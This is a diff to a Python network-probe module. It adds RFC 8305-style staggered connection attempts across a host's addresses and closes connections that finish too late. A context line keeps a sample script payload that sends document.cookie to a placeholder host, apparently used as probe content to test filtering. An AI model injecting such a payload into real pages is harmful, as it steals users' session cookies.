@@ -31,6 +31,9 @@ LARGE_BYTES = 4_000_000
 BODY_TIMEOUT_S = 60.0
 """Timeout of a large request: half a megabit a second."""
 
+HEAD_START_S = 0.25
+"""How long one address of a host is tried before the next one is tried as well (RFC 8305)."""
+
 _PLAIN = "The quick brown fox jumps over the lazy dog.\n"
 
 _CODE = """<script>document.location = "https://example.org/?c=" + document.cookie</script>
@@ -156,27 +159,52 @@ class Probe:
 
 
 async def first_connection(addresses: Sequence[AddressInfo]) -> socket.socket:
-    """A connection to the first of the addresses (from `getaddrinfo`) that accepts one. Raises OSError; with several addresses, the
-    cause holds the error of each, which asyncio itself would join into one sentence.
+    """A connection to the first of the addresses (from `getaddrinfo`) that accepts one; each gets a short start before the next is tried
+    as well, as HTTP clients do: a host whose IPv6 leads nowhere still answers. Raises OSError; with several addresses, the cause holds
+    the error of each, which asyncio itself would join into one sentence.
     """
-    loop = asyncio.get_running_loop()
-    failures: list[OSError] = []
-    for family, kind, protocol, _, address in addresses:
-        sock = socket.socket(family, kind, protocol)
-        sock.setblocking(False)
-        try:
-            await loop.sock_connect(sock, address)
-        except OSError as error:
-            sock.close()
-            failures.append(error)
-        except BaseException:
-            sock.close()
-            raise
-        else:
-            return sock
+    rest, failures = list(addresses), list[OSError]()
+    trying: set[asyncio.Task[socket.socket]] = set()
+    try:
+        while rest or trying:
+            if rest:
+                trying.add(asyncio.create_task(_connect(rest.pop(0))))
+            done, _ = await asyncio.wait(
+                trying, timeout=HEAD_START_S if rest else None, return_when=asyncio.FIRST_COMPLETED
+            )
+            for task in done:
+                trying.remove(task)
+                error = task.exception()
+                if error is None:
+                    return task.result()
+                if not isinstance(error, OSError):
+                    raise error
+                failures.append(error)
+    finally:
+        for task in trying:
+            task.cancel()
+            task.add_done_callback(_close_late)
     if len(failures) == 1:
         raise failures[0]
     raise OSError("no address accepts a connection") from ExceptionGroup("each address", failures)
+
+
+async def _connect(info: AddressInfo) -> socket.socket:
+    family, kind, protocol, _, address = info
+    sock = socket.socket(family, kind, protocol)
+    sock.setblocking(False)
+    try:
+        await asyncio.get_running_loop().sock_connect(sock, address)
+    except BaseException:
+        sock.close()
+        raise
+    return sock
+
+
+def _close_late(task: asyncio.Task[socket.socket]) -> None:
+    """Closes a connection that came after another one was taken."""
+    if not task.cancelled() and task.exception() is None:
+        task.result().close()
 
 
 def _fault_of_proxy(target: Target) -> Failure | None:
